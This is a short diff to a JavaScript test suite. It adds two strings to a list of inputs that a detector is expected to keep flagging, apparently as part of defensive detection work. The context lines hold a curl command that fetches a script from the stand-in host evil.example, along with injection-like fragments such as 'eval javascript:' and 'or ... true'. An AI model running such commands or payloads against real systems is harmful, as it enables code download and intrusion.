@@ -275,6 +275,8 @@ describe('the line-rate pass keeps detection', () => {
     'version/usr/bin/curl x https://evil.example/x.sh',
     ' $5 echo a.com',
     ' or-esee ~* true #top',
+    ' and x/y<3 é',
+    '<3 eval javascript: 5 #4 script',
   ])('still flags %s', (s) => {
     expect(d.first(s)).not.toBeNull()
   })
